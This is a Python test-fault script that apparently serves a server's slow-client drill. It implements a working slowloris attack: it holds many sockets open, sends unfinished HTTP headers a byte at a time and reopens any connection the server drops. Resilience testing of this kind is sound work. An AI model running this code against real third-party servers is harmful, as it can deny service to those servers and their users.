"""A slowloris attacker for the slow-client drill, run as its own process:
``python -m tests.faults.slowloris HOST PORT CONNECTIONS DURATION_S``.

Keeps up to CONNECTIONS sockets open, each sending a request's headers a byte every 2-4 s and
never finishing them; a socket the server ends is opened again at once (as an attacker would).
Prints one JSON line at the end: opened, ended by the server, most open at once, open at the end.
"""

from __future__ import annotations

import errno
import heapq
import itertools
import json
import random
import selectors
import socket
import sys
import time

OPEN_PER_S = 1_000
HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "


def main(host: str, port: int, target: int, duration_s: float) -> dict[str, int]:
    """Run the attack; the counts it printed."""
    sel = selectors.DefaultSelector()
    live: set[socket.socket] = set()
    begun: set[socket.socket] = set()  # sockets whose request line is out
    timers: list[tuple[float, int, socket.socket]] = []  # (when the next byte is due, tie, socket)
    tie = itertools.count()
    opened = ended = most = 0
    rnd = random.Random(12)
    started = time.monotonic()
    next_open = started

    def close(sock: socket.socket) -> None:
        sel.unregister(sock)
        live.discard(sock)
        begun.discard(sock)
        sock.close()

    while (now := time.monotonic()) - started < duration_s:
        # open (or reopen) up to the target, at a bounded rate
        while len(live) < target and next_open <= now:
            sock = socket.socket()
            sock.setblocking(False)
            if sock.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
                sock.close()
                break
            sel.register(sock, selectors.EVENT_READ)
            live.add(sock)
            heapq.heappush(timers, (now + 0.05, next(tie), sock))  # the request line once connected
            opened += 1
            next_open += 1 / OPEN_PER_S
        next_open = max(next_open, now - 0.1)
        most = max(most, len(live))
        for key, _ in sel.select(timeout=0.02):
            try:
                data = key.fileobj.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server ended it: count it, and open another
                ended += 1
                close(key.fileobj)
        now = time.monotonic()
        while timers and timers[0][0] <= now:
            _, _, sock = heapq.heappop(timers)
            if sock not in live:
                continue
            try:
                sock.send(b"a" if sock in begun else HEAD)
                begun.add(sock)
                heapq.heappush(timers, (now + rnd.uniform(2.0, 4.0), next(tie), sock))
            except OSError as exc:
                if exc.errno in (errno.EAGAIN, errno.ENOTCONN):  # still connecting
                    heapq.heappush(timers, (now + 0.05, next(tie), sock))
                    continue
                ended += 1
                close(sock)
    open_at_end = len(live)
    for sock in list(live):
        close(sock)
    return {"opened": opened, "ended_by_server": ended, "most_open": most, "open_at_end": open_at_end}


if __name__ == "__main__":
    counts = main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
    print(json.dumps(counts), flush=True)
